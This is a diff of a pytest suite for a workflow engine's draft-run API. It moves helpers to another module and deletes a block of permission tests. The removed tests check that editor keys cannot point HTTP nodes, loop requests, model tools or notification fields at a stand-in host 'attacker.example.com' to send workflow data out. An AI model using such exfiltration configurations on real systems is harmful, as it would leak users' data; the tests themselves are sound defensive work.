@@ -7,61 +7,9 @@ from typing import Any
 
 import pytest
 from draft_client import op
-
-from stepless.compile import compile_document
-from stepless.compile.pinning import graph_of_draft_run
-from stepless.model.draft_run import DraftRun, Pin
-from stepless.nodes import KINDS
-from stepless.runtime.verbs.drafts.known import effects_of
+from draft_run_client import EACH, LINE, RISK, ended, key_of, opened, tried
 
 pytestmark = pytest.mark.anyio
-
-LINE = {
-    "id": "w",
-    "nodes": {
-        "begin": {"type": "manual"},
-        "double": {"type": "transform", "after": "begin", "with": {"value": "{{ <begin.n> * 2 }}"}},
-        "score": {"type": "http", "after": "double", "with": {"url": "https://risk.example.com/score", "body": "<double>"}},
-        "risk": {"type": "condition", "after": "score", "with": {"cases": {"high": "<score.body.risk> > 5", "low": "else"}}},
-        "stop": {"type": "transform", "after": "risk.high", "with": {"value": "stopped at <score.body.risk>"}},
-        "go": {"type": "transform", "after": "risk.low", "with": {"value": "gone on with <double>"}},
-    },
-}
-EACH = {
-    "id": "w",
-    "nodes": {
-        "begin": {"type": "manual"},
-        "each": {
-            "type": "loop", "after": "begin",
-            "with": {"items": "<begin.list>", "body": {"nodes": {
-                "price": {"type": "http", "with": {"url": "https://prices.example.com/<loop.item>"}},
-                "sum": {"type": "transform", "after": "price", "with": {"value": "{{ <price.body> + <loop.index> }}"}},
-            }}},
-        },
-    },
-}  # fmt: skip
-RISK = {"score": {"output": {"status": 200, "body": {"risk": 3}}}}
-
-
-async def opened(door: Any, document: Any) -> dict[str, Any]:
-    answer = await door.ask.post("/drafts/w", json={"from": "document", "document": document})
-    assert answer.status_code == 200, answer.text
-    return dict(answer.json())
-
-
-async def tried(door: Any, status: int = 202, ask: Any = None, **body: Any) -> dict[str, Any]:
-    answer = await (ask or door.ask).post("/drafts/w/runs", json=body)
-    assert answer.status_code == status, answer.text
-    return dict(answer.json())
-
-
-async def ended(door: Any, run_id: str) -> dict[str, Any]:
-    """The run, when it has ended."""
-    while True:
-        found = (await door.ask.get(f"/runs/{run_id}/summary?after=1&wait_s=20")).json()
-        if found["ended"]:
-            return dict((await door.ask.get(f"/runs/{run_id}")).json())
-
 
 async def nodes_of(door: Any, run_id: str) -> dict[str, Any]:
     found = (await door.ask.get(f"/runs/{run_id}/nodes")).json()["nodes"]
@@ -72,13 +20,6 @@ async def completions(door: Any, run_id: str) -> dict[str, Any]:
     """What each instance put out, and how, by the events."""
     events = (await door.ask.get(f"/runs/{run_id}/events?limit=500")).json()["events"]
     return {event["payload"]["instance"]: event["payload"] for event in events if event["type"] == "node.completed"}
-
-
-async def key_of(door: Any, *roles: str) -> Any:
-    """A client with these roles."""
-    made = await door.ask.post("/keys", json={"name": "p", "roles": list(roles)})
-    door.stranger.headers["authorization"] = f"Bearer {made.json()['secret']}"
-    return door.stranger
 
 
 async def test_a_draft_runs_before_it_is_published(kept_door: Any) -> None:
@@ -249,109 +190,3 @@ async def test_pins_and_inputs_are_masked_as_events_are(door: Any) -> None:
     await ended(door, run_id)
     events = await door.ask.get(f"/runs/{run_id}/events?limit=500")
     assert secret not in events.text and "it is ***" in events.text
-
-
-# -- who may run what --------------------------------------------------------------------------------------------------
-
-
-async def refused_nodes(door: Any, ask: Any, document: Any, **body: Any) -> list[str]:
-    """The nodes for which a test run of this draft is refused; none if it starts."""
-    await opened(door, document)
-    answer = await ask.post("/drafts/w/runs", json={"inputs": {"n": 1, "list": []}, **body})
-    if answer.status_code == 202:
-        return []
-    assert (answer.status_code, answer.json()["code"]) == (403, "unpublished_effect"), answer.text
-    return list(answer.json()["violations"])
-
-
-def changed(node: str, document: Any = LINE, **fields: Any) -> dict[str, Any]:
-    copy = json.loads(json.dumps(document))
-    copy["nodes"][node].update(fields)
-    return dict(copy)
-
-
-async def test_an_editor_cannot_send_anything_to_a_host_of_their_own(door: Any) -> None:
-    await door.publish(LINE)
-    ask = await key_of(door, "edit", "run")
-    own = {"url": "https://attacker.example.com", "body": "<double>"}
-    assert await refused_nodes(door, ask, changed("score", **{"with": own})) == ["score"]
-    put = {**LINE["nodes"]["score"]["with"], "method": "PUT"}
-    assert await refused_nodes(door, ask, changed("score", **{"with": put})) == ["score"]
-    renamed = json.loads(json.dumps(LINE).replace("score", "scored").replace("example.com/scored", "example.com/score"))
-    assert await refused_nodes(door, ask, renamed, stop_after="double") == []
-    assert await refused_nodes(door, ask, renamed, pins={"scored": RISK["score"]}) == []
-    as_http = changed("double", type="http", **{"with": {"url": own["url"]}})
-    assert await refused_nodes(door, ask, as_http, pins=RISK) == ["double"]
-    assert (await ask.post("/drafts/w/publish", json={"seq": 0})).status_code == 403
-
-
-async def test_an_editor_may_change_what_is_pure_and_what_is_not_called(door: Any) -> None:
-    await door.publish(LINE)
-    ask = await key_of(door, "edit", "run")
-    own = {"url": "https://attacker.example.com"}
-    assert await refused_nodes(door, ask, changed("go", **{"with": {"value": "changed"}}), pins=RISK) == []
-    assert await refused_nodes(door, ask, changed("score", **{"with": own}), pins=RISK) == []
-    assert await refused_nodes(door, ask, changed("score", **{"with": own}), stop_after="double") == []
-    assert await refused_nodes(door, ask, changed("score", enabled=False, **{"with": own})) == []
-    assert await refused_nodes(door, ask, changed("score", retry={"attempts": 2}), stop_after="double") == []
-
-
-async def test_a_node_of_any_published_version_is_known_also_inside_a_container(door: Any) -> None:
-    await door.publish(EACH)
-    await door.publish(LINE)
-    ask = await key_of(door, "edit", "run")
-    assert await refused_nodes(door, ask, EACH) == []
-    other = json.loads(json.dumps(EACH))
-    other["nodes"]["each"]["with"]["body"]["nodes"]["price"]["with"]["url"] = "https://attacker.example.com/<loop.item>"
-    assert await refused_nodes(door, ask, other) == ["price@each"]
-    assert await refused_nodes(door, ask, other, pins={"price@each": {"output": 1}}) == []
-    assert await refused_nodes(door, ask, other, pins={"each": {"output": 1}}) == []
-    await door.publish(other)
-    assert await refused_nodes(door, ask, other) == [], "a version that was published meanwhile is read too"
-
-
-async def test_a_tool_of_a_model_is_judged_and_cannot_be_pinned() -> None:
-    tool = {"type": "http", "with": {"url": "https://attacker.example.com"}}
-    model = {"type": "llm", "after": "begin", "with": {"prompt": "x", "tools": [{"node": "look", "description": "looks"}]}}
-    document = {"id": "w", "nodes": {"begin": {"type": "manual"}, "ask": model, "look": tool}}
-
-    def judged(**pins: Any) -> list[str]:
-        graph = graph_of_draft_run(compile_document(document, KINDS), DraftRun({path: Pin(pin) for path, pin in pins.items()}))
-        return [effect.path for effect in effects_of(graph, document)]
-
-    assert judged() == ["ask", "look"]
-    assert judged(look=1) == ["ask", "look"]
-    assert judged(ask=1) == []
-
-
-async def test_a_question_that_is_sent_out_is_judged_and_no_one_is_notified_of_a_failure(door: Any) -> None:
-    asking = {"type": "approval", "after": "begin", "with": {"message": "ok?"}}
-    document = {"id": "w", "nodes": {"begin": {"type": "manual"}, "ask": asking}}
-    ask = await key_of(door, "edit", "run")
-    assert await refused_nodes(door, ask, document) == []
-    told = {**asking, "with": {"message": "ok?", "notify": "https://attacker.example.com"}}
-    assert await refused_nodes(door, ask, {"id": "w", "nodes": {"begin": {"type": "manual"}, "ask": told}}) == ["ask"]
-    failing = {
-        "id": "w", "on_failure_notify": "mailto:attacker@example.com",
-        "nodes": {"begin": {"type": "manual"}, "bad": {"type": "fail", "after": "begin", "with": {"code": "odd"}}},
-    }  # fmt: skip
-    await opened(door, failing)
-    run_id = (await tried(door, ask=ask, inputs={}))["run_id"]
-    await ended(door, run_id)
-    head = door.local.world.store.get_run(run_id)
-    graph = door.local.world.versions.graph("w", head.version)
-    assert (graph.on_failure_notify, graph.retention_ms) == ((), 7 * 24 * 3_600_000)
-
-
-@pytest.mark.parametrize("roles", [("edit",), ("run",), ("read",), ("approve",)])
-async def test_one_role_alone_runs_nothing(door: Any, roles: tuple[str, ...]) -> None:
-    await opened(door, LINE)
-    ask = await key_of(door, *roles)
-    answer = await ask.post("/drafts/w/runs", json={"inputs": {}, "pins": RISK})
-    assert (answer.status_code, answer.json()["code"]) == (403, "role_missing")
-    assert (await ask.get("/drafts/w/runs")).status_code == 200
-
-
-async def test_an_admin_may_run_what_was_never_published(door: Any) -> None:
-    await opened(door, LINE)
-    assert (await tried(door, inputs={"n": 1}, stop_after="score"))["run_id"]
